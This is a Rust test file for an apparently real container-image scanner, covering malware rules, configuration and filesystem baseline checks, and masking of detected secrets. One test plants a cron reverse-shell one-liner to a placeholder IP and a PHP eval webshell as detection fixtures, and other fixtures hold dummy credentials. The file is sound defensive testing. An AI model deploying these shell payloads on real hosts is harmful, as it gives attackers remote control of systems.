//! Malware and baseline checks: one test per check.
#![allow(clippy::unwrap_used, clippy::expect_used)]
use crate::common;

use berth_scan::{ScanOptions, Severity};
use common::*;

fn ids(r: &berth_scan::Report) -> Vec<String> {
    r.baseline.iter().map(|b| b.id.clone()).collect()
}

#[test]
fn eicar_is_found_by_yara_and_the_blocklist() {
    let img = Image::new(
        vec![
            Layer::new("ADD"),
            Layer::new("COPY eicar").file("/tmp/eicar.com", &eicar()),
        ],
        Comp::Gzip,
    );
    let r = scan(&img);
    // One file, one finding, every rule that matched.
    assert_eq!(r.malware.len(), 1, "{:#?}", r.malware);
    assert_eq!(r.malware[0].rule, "yara:berth.EICAR_Test_File");
    assert_eq!(
        r.malware[0].rules,
        ["yara:berth.EICAR_Test_File", "sha256-blocklist"]
    );
    for m in &r.malware {
        assert_eq!(m.path, "/tmp/eicar.com");
        assert_eq!(m.severity, Severity::Critical);
        assert_eq!(m.layer.as_ref().unwrap().index, 1);
        assert_eq!(
            m.sha256,
            "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
        );
    }
}

#[test]
fn deleted_malware_is_not_reported() {
    let img = Image::new(
        vec![
            Layer::new("COPY").file("/tmp/eicar.com", &eicar()),
            Layer::new("RUN rm").whiteout("/tmp/eicar.com"),
        ],
        Comp::Gzip,
    );
    assert!(scan(&img).malware.is_empty());
}

#[test]
fn user_rules_and_blocklists() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("custom.yar"), "rule Custom_Marker { meta: severity = \"Medium\" description = \"marker\" strings: $a = \"BERTH-TEST-MARKER\" condition: $a }").unwrap();
    let bad = b"definitely malicious payload";
    std::fs::write(
        dir.path().join("blocklist.txt"),
        format!("# comment\n{} known dropper\n", &sha256(bad)[7..]),
    )
    .unwrap();
    let img = Image::new(
        vec![
            Layer::new("COPY")
                .file("/app/a.txt", b"xx BERTH-TEST-MARKER xx")
                .file("/app/b.bin", bad),
        ],
        Comp::Gzip,
    );
    let opts = ScanOptions {
        yara_rule_dirs: vec![dir.path().to_path_buf()],
        blocklists: vec![dir.path().join("blocklist.txt")],
        ..options()
    };
    let r = try_scan(&img, opts).unwrap();
    let found: Vec<(String, String, Severity)> = r
        .malware
        .iter()
        .map(|m| (m.path.clone(), m.rule.clone(), m.severity))
        .collect();
    assert!(
        found.contains(&(
            "/app/a.txt".into(),
            "yara:custom.Custom_Marker".into(),
            Severity::Medium
        )),
        "{found:?}"
    );
    assert!(
        found.contains(&(
            "/app/b.bin".into(),
            "sha256-blocklist".into(),
            Severity::Critical
        )),
        "{found:?}"
    );
    assert_eq!(
        r.malware
            .iter()
            .find(|m| m.path == "/app/b.bin")
            .unwrap()
            .description,
        "known dropper"
    );
    // A rule that does not compile is a clear error.
    std::fs::write(dir.path().join("broken.yar"), "rule {").unwrap();
    let opts = ScanOptions {
        yara_rule_dirs: vec![dir.path().to_path_buf()],
        ..options()
    };
    assert!(
        berth_scan::Scanner::new(opts)
            .err()
            .unwrap()
            .to_string()
            .contains("broken.yar")
    );
}

#[test]
fn reverse_shell_and_webshell_rules() {
    let img = Image::new(
        vec![
            Layer::new("COPY")
                .file(
                    "/etc/cron.d/x",
                    b"* * * * * root bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
                )
                .file(
                    "/var/www/s.php",
                    b"<?php eval(base64_decode($_POST['x'])); ?>",
                ),
        ],
        Comp::Gzip,
    );
    let rules: Vec<String> = scan(&img).malware.iter().map(|m| m.rule.clone()).collect();
    assert!(
        rules.contains(&"yara:berth.Reverse_Shell_Oneliner".to_string()),
        "{rules:?}"
    );
    assert!(
        rules.contains(&"yara:berth.PHP_Webshell_Eval".to_string()),
        "{rules:?}"
    );
}

#[test]
fn config_checks_root_healthcheck_secrets_ports_add_url() {
    let img = Image::new(vec![Layer::new("ADD rootfs"), Layer::new("ADD https://example.com/tool.tgz /opt/ # buildkit")], Comp::Gzip).with_config(|c| {
        c["config"] = serde_json::json!({
            "User": "0:0",
            "Env": ["PATH=/usr/bin", "DB_PASSWORD=hunter2hunter2", "PASSWORD_FILE=/run/secrets/pw", "AWS_KEY=AKIAIOSFODNN7EXAMPLE"],
            "ExposedPorts": {"22/tcp": {}, "80/tcp": {}, "23/tcp": {}},
            "Labels": {"ci.token": "ghp_abcdefghijklmnopqrstuvwxyz0123456789"},
        });
    });
    let r = scan(&img);
    let ids = ids(&r);
    for id in [
        "BERTH-CFG-002",
        "BERTH-CFG-003",
        "BERTH-CFG-004",
        "BERTH-CFG-005",
        "BERTH-CFG-006",
        "BERTH-CFG-007",
    ] {
        assert!(ids.contains(&id.to_string()), "{id} missing from {ids:?}");
    }
    assert!(!ids.contains(&"BERTH-CFG-001".to_string()));
    assert_eq!(
        r.baseline
            .iter()
            .filter(|b| b.id == "BERTH-CFG-004")
            .count(),
        2
    );
    assert_eq!(
        r.baseline
            .iter()
            .filter(|b| b.id == "BERTH-CFG-006")
            .count(),
        2
    );
    let secret = r.baseline.iter().find(|b| b.id == "BERTH-CFG-004").unwrap();
    assert!(
        !secret.detail.contains("hunter2hunter2"),
        "secrets are redacted: {}",
        secret.detail
    );
    let add = r.baseline.iter().find(|b| b.id == "BERTH-CFG-007").unwrap();
    assert_eq!(add.layer.as_ref().unwrap().index, 1);
    assert!(!add.remediation.is_empty());
    // No USER at all.
    let r = scan(
        &Image::new(vec![Layer::new("x")], Comp::None)
            .with_config(|c| c["config"] = serde_json::json!({})),
    );
    assert!(super_ids(&r).contains(&"BERTH-CFG-001".to_string()));
}

fn super_ids(r: &berth_scan::Report) -> Vec<String> {
    ids(r)
}

#[test]
fn filesystem_checks() {
    let img = Image::new(
        vec![
            Layer::new("ADD rootfs")
                .file("/etc/shadow", b"root:*:19000:0:99999:7:::\nguest::19000:0:99999:7:::\nlocked:!:19000::::::\n")
                .file_mode("/usr/bin/passwd", b"ELF", 0o4755)
                .file_mode("/usr/local/bin/backdoor", b"ELF", 0o4755)
                .file_mode("/usr/lib/libx.so", b"x", 0o666)
                .file_mode("/home/app/notes.txt", b"x", 0o666)
                .dir("/usr/share/dropbox", 0o777)
                .dir("/tmp", 0o1777)
                .file_mode("/tmp/scratch", b"x", 0o666)
                .dir("/var/tmp/cache", 0o777),
            Layer::new("RUN apt-get update && apt-get install -y curl")
                .file("/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease", b"lists")
                .file("/var/lib/apt/lists/lock", b"")
                .file("/root/.ssh/id_ed25519", b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n")
                .file("/root/.aws/credentials", b"[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n")
                .file("/root/.docker/config.json", br#"{"auths":{"registry.example":{"auth":"dXNlcjpwYXNz"}}}"#)
                .file("/home/app/.docker/config.json", br#"{"credsStore":"desktop"}"#),
        ],
        Comp::Gzip,
    );
    let r = scan(&img);
    let find = |id: &str| {
        r.baseline
            .iter()
            .filter(|b| b.id == id)
            .map(|b| b.path.clone().unwrap_or_default())
            .collect::<Vec<_>>()
    };
    assert_eq!(find("BERTH-FS-001"), ["/root/.ssh/id_ed25519"]);
    assert_eq!(
        find("BERTH-FS-002"),
        ["/root/.aws/credentials", "/root/.docker/config.json"]
    );
    assert_eq!(find("BERTH-FS-003"), ["/etc/shadow"]);
    assert!(
        r.baseline
            .iter()
            .any(|b| b.id == "BERTH-FS-003" && b.detail.contains("guest"))
    );
    assert_eq!(find("BERTH-FS-004"), ["/usr/local/bin/backdoor"]);
    // Anywhere but scratch locations (/tmp, /var/tmp, ...).
    assert_eq!(
        find("BERTH-FS-005"),
        [
            "/home/app/notes.txt",
            "/usr/lib/libx.so",
            "/usr/share/dropbox"
        ]
    );
    assert_eq!(find("BERTH-FS-006"), ["/var/lib/apt/lists"]);
    let key = r.baseline.iter().find(|b| b.id == "BERTH-FS-001").unwrap();
    assert_eq!(key.layer.as_ref().unwrap().index, 1);
    assert_eq!(key.severity, Severity::High);
}

#[test]
fn checks_can_be_turned_off() {
    let img = Image::new(
        vec![Layer::new("COPY").file("/tmp/eicar.com", &eicar())],
        Comp::Gzip,
    );
    let r = try_scan(
        &img,
        ScanOptions {
            malware: false,
            baseline: false,
            ..options()
        },
    )
    .unwrap();
    assert!(r.malware.is_empty() && r.baseline.is_empty());
}

/// A stand-in for ClamAV's `clam.exe` (not committed): an MZ file with the import names
/// ClamAV's own test signature looks for. The real file (544 bytes, SHA-256 71e7b604…4495) is
/// also on the built-in blocklist; checked by hand against it, see ARCHITECTURE.md.
fn clam_like_exe() -> Vec<u8> {
    let mut b = b"MZP\x00\x02\x00".to_vec();
    b.resize(0x100, 0);
    b.extend_from_slice(b"KERNEL32.DLL\x00\x00ExitProcess\x00USER32.DLL\x00CLAMessageBoxA\x00");
    b.resize(544, 0);
    b
}

#[test]
fn clamav_test_file_alone_in_a_zip_and_in_a_nested_zip() {
    let exe = clam_like_exe();
    let nested = zip(&[("inner.zip", &zip(&[("docs/clam.exe", &exe)]))]);
    let img = Image::new(
        vec![
            Layer::new("COPY")
                .file("/test/clam.exe", &exe)
                .file(
                    "/test/clam.zip",
                    &zip(&[("clam.exe", &exe), ("README", b"hello")]),
                )
                .file("/test/nested.zip", &nested)
                .file("/lib/app.jar", &zip(&[("bin/clam.exe", &exe)]))
                // Not an executable: the import names alone are not the test file.
                .file(
                    "/test/notes.txt",
                    b"KERNEL32.DLL\x00\x00ExitProcess\x00USER32.DLL\x00CLAMessageBoxA",
                ),
        ],
        Comp::Gzip,
    );
    let r = scan(&img);
    let mut found: Vec<(&str, &str)> = r
        .malware
        .iter()
        .map(|m| (m.path.as_str(), m.rule.as_str()))
        .collect();
    found.sort();
    assert_eq!(
        found,
        [
            ("/lib/app.jar!bin/clam.exe", "yara:berth.ClamAV_Test_File"),
            ("/test/clam.exe", "yara:berth.ClamAV_Test_File"),
            ("/test/clam.zip!clam.exe", "yara:berth.ClamAV_Test_File"),
            (
                "/test/nested.zip!inner.zip!docs/clam.exe",
                "yara:berth.ClamAV_Test_File"
            ),
        ]
    );
    let member = r
        .malware
        .iter()
        .find(|m| m.path == "/test/clam.zip!clam.exe")
        .unwrap();
    assert_eq!(member.severity, Severity::Critical);
    assert_eq!(
        member.sha256,
        sha256(&exe)[7..],
        "the member's hash, not the zip's"
    );
}

#[test]
fn eicar_in_a_zip_is_found_and_archive_search_is_bounded() {
    // Nested one level deeper than max_nesting_depth allows: a warning, not a failure.
    let mut deep = zip(&[("eicar.com", &eicar())]);
    for i in 0..6 {
        deep = zip(&[(&format!("level{i}.zip"), &deep)]);
    }
    let img = Image::new(
        vec![
            Layer::new("COPY")
                .file("/a/eicar.zip", &zip(&[("eicar.com", &eicar())]))
                .file("/a/deep.zip", &deep)
                .file("/a/broken.zip", b"PK\x03\x04 not really a zip"),
        ],
        Comp::Gzip,
    );
    let r = scan(&img);
    let m = r
        .malware
        .iter()
        .find(|m| m.path == "/a/eicar.zip!eicar.com")
        .unwrap_or_else(|| panic!("{:#?}", r.malware));
    assert_eq!(m.rules, ["yara:berth.EICAR_Test_File", "sha256-blocklist"]);
    assert!(!r.malware.iter().any(|m| m.path.starts_with("/a/deep.zip")));
    assert!(
        r.warnings
            .iter()
            .any(|w| w.starts_with("/a/deep.zip") && w.contains("nested deeper")),
        "{:?}",
        r.warnings
    );
    // Members over the per-file limit are not read, and said so.
    let big = vec![b'A'; 2 << 20];
    let img = Image::new(
        vec![Layer::new("COPY").file(
            "/a/big.zip",
            &zip(&[("big.bin", &big), ("eicar.com", &eicar())]),
        )],
        Comp::Gzip,
    );
    let mut opts = options();
    opts.limits.max_buffered_file_size = 1 << 20;
    let r = try_scan(&img, opts).unwrap();
    assert!(r.malware.iter().any(|m| m.path == "/a/big.zip!eicar.com"));
    assert!(
        r.warnings
            .iter()
            .any(|w| w.starts_with("/a/big.zip: 1 archive members were not searched")),
        "{:?}",
        r.warnings
    );
}

/// One test per secret rule, and the allow-lists that keep library source, fixtures and
/// documented examples quiet. Tokens are assembled at run time so that the repository holds
/// nothing a secret scanner would flag.
#[test]
fn secret_rules_and_their_allow_lists() {
    let aws_id = format!("AKIA{}", "Q7R2ZK4M9PLX3WNB");
    let aws_secret = format!(
        "aws_secret_access_key = {}",
        "Zx9vQ2mN7bR4tY8uW1eP5aS3dF6gH0jK2lC4vB7n"
    );
    let github = format!("token: ghp_{}", "a1B2c3D4".repeat(4) + "e5F6");
    let gitlab = format!("GITLAB_TOKEN=glpat-{}", "Xy7Zq2Wv9Ub4Tr6Sp1Qo");
    let slack = format!(
        "SLACK=xoxb-{}-{}-{}",
        "1234567890", "0987654321", "AbCdEfGhIjKlMnOpQrStUvWx"
    );
    let hook = format!(
        "url = https://hooks.slack.com/services/{}/{}/{}",
        "T0ABCDEFG", "B0HIJKLMN", "abcdefghijklmnopqrstuvwx"
    );
    let app =
        format!("# app settings\n{aws_id}\n{aws_secret}\n{github}\n{gitlab}\n{slack}\n{hook}\n");
    let pem = b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n";
    let parser = b"_SK_START = b\"-----BEGIN OPENSSH PRIVATE KEY-----\"\n_SK_END = b\"-----END OPENSSH PRIVATE KEY-----\"\n";
    let layers = || {
        vec![
            Layer::new("COPY")
                .file("/srv/app/settings.env", app.as_bytes())
                .file("/root/.ssh/id_ed25519", pem)
                // Library source: the `cryptography` package's SSH key parser.
                .file(
                    "/usr/local/lib/python3.12/site-packages/cryptography/hazmat/primitives/serialization/ssh.py",
                    parser,
                )
                .file("/usr/lib/node_modules/tool/lib/creds.js", app.as_bytes())
                // Test fixtures.
                .file("/srv/app/tests/fixtures/id_rsa", pem)
                .file("/srv/app/tests/settings.env", app.as_bytes())
                // AWS's documented example key, in the app itself.
                .file("/srv/app/docs.txt", b"key AKIAIOSFODNN7EXAMPLE secret wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\naws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"),
        ]
    };
    let r = scan(&Image::new(layers(), Comp::Gzip));
    let found: Vec<(String, String)> = r
        .baseline
        .iter()
        .filter(|b| b.id == "BERTH-FS-008" || b.id == "BERTH-FS-001")
        .map(|b| (b.path.clone().unwrap_or_default(), b.detail.clone()))
        .collect();
    let at = |path: &str| -> Vec<&str> {
        found
            .iter()
            .filter(|(p, _)| p == path)
            .map(|(_, d)| d.as_str())
            .collect()
    };
    let app_hits = at("/srv/app/settings.env");
    for kind in [
        "AWS access key ID AKIA…3WNB (line 2)",
        "AWS secret access key Zx9v…vB7n (line 3)",
        "GitHub token ghp_…e5F6 (line 4)",
        "GitLab personal access token glpa…p1Qo (line 5)",
        "Slack token xoxb…UvWx (line 6)",
        "Slack token hook…uvwx (line 7)",
    ] {
        assert!(app_hits.contains(&kind), "{kind} not in {app_hits:?}");
    }
    assert_eq!(app_hits.len(), 6, "{app_hits:?}");
    // No secret value in the report, only masked.
    let json = berth_scan::output::render(&r, berth_scan::output::Format::Json, false);
    assert!(!json.contains(&aws_id) && !json.contains("a1B2c3D4a1B2"));
    assert_eq!(at("/root/.ssh/id_ed25519"), ["OPENSSH PRIVATE KEY"]);
    assert!(
        found
            .iter()
            .all(|(p, _)| p == "/srv/app/settings.env" || p == "/root/.ssh/id_ed25519"),
        "{found:?}"
    );
    // The secret rules are baseline checks: they run without the malware rules too.
    let r = try_scan(
        &Image::new(layers(), Comp::Gzip),
        ScanOptions {
            malware: false,
            ..options()
        },
    )
    .unwrap();
    assert_eq!(
        r.baseline.iter().filter(|b| b.id == "BERTH-FS-008").count(),
        6
    );
    assert!(r.malware.is_empty());
}

/// The generic assignment rule (gitleaks' `generic-api-key` shape): a secret word in the name,
/// an assignment, a high-entropy value with a digit. Values are assembled at run time so the
/// repository holds nothing a secret scanner would flag.
#[test]
fn generic_secret_assignments_and_their_allow_lists() {
    let v1 = ["k3Jx9QzT", "2mWv8Lp4"].concat();
    let v2 = ["Qm7Rz2Lk", "9Xw4Tn8Pv3Hs"].concat();
    let v3 = ["aP9sZ3xV", "7bN1mK5q"].concat();
    let ghp = format!("ghp_{}", "a1B2c3D4".repeat(4) + "e5F6");
    let env = format!(
        "# app\nDEBUG=true\nDB_PASSWORD={v1}\nAPI_KEY=\"{v2}\"\nGITHUB_TOKEN={ghp}\nDB_PASSWORD_FILE=/run/secrets/db1\n"
    );
    let yml = format!("database:\n  host: db\n  password: {v3}\n  token_type: bearer_2b\n");
    let settings = "SECRET_KEY = os.environ[\"SECRET_KEY\"]\nPASSWORD = \"changeme12345\"\nif password == \"Zk8Qw3Lm5Xr7\":\n    pass\nmax_tokens = 4096\n";
    let py_lib = format!("password = \"{v1}\"\n");
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.extend_from_slice(format!("password={v1}\n").as_bytes());
    let many: String = (0..25)
        .map(|i| format!("secret_{i:02} = \"{v2}{i:02}\"\n"))
        .collect();
    let layers = || {
        vec![
            Layer::new("COPY")
                .file("/srv/app/.env", env.as_bytes())
                .file("/srv/app/config.yml", yml.as_bytes())
                .file("/srv/app/settings.py", settings.as_bytes())
                .file("/srv/app/generated.ini", many.as_bytes())
                // Allowed: a template, the OS's own files, library source, tests, docs, binaries.
                .file("/srv/app/.env.example", env.as_bytes())
                .file("/usr/lib/python3.11/smtplib.py", py_lib.as_bytes())
                .file(
                    "/usr/local/lib/python3.11/site-packages/lib/conf.py",
                    py_lib.as_bytes(),
                )
                .file("/srv/app/tests/conf.py", py_lib.as_bytes())
                .file("/srv/app/README.md", py_lib.as_bytes())
                .file("/srv/app/locale/de/app.po", py_lib.as_bytes())
                .file("/srv/app/bin/tool", &elf),
        ]
    };
    let r = scan(&Image::new(layers(), Comp::Gzip));
    let found: Vec<(String, String)> = r
        .baseline
        .iter()
        .filter(|b| b.id == "BERTH-FS-008")
        .map(|b| (b.path.clone().unwrap_or_default(), b.detail.clone()))
        .collect();
    let at = |path: &str| -> Vec<&str> {
        found
            .iter()
            .filter(|(p, _)| p == path)
            .map(|(_, d)| d.as_str())
            .collect()
    };
    assert_eq!(
        at("/srv/app/.env"),
        [
            "GitHub token ghp_…e5F6 (line 5)",
            "Generic secret DB_PASSWORD k3Jx…8Lp4 (line 3)",
            "Generic secret API_KEY Qm7R…v3Hs (line 4)",
        ]
    );
    assert_eq!(
        at("/srv/app/config.yml"),
        ["Generic secret password aP9s…mK5q (line 3)"]
    );
    assert!(at("/srv/app/settings.py").is_empty(), "{found:?}");
    let many_hits = at("/srv/app/generated.ini");
    assert_eq!(many_hits.len(), 21, "{many_hits:?}");
    assert_eq!(
        many_hits[20],
        "Generic secret: 5 more assignments not listed"
    );
    // An example copy of the configuration is left alone by the generic rule only: a token
    // of a documented shape is a leak wherever it is.
    assert_eq!(
        at("/srv/app/.env.example"),
        ["GitHub token ghp_…e5F6 (line 5)"]
    );
    // Nothing anywhere else; the value itself never in the report.
    assert!(
        found.iter().all(|(p, _)| [
            "/srv/app/.env",
            "/srv/app/.env.example",
            "/srv/app/config.yml",
            "/srv/app/generated.ini"
        ]
        .contains(&p.as_str())),
        "{found:?}"
    );
    let json = berth_scan::output::render(&r, berth_scan::output::Format::Json, false);
    assert!(!json.contains(&v1) && !json.contains(&v2) && !json.contains(&v3));
}
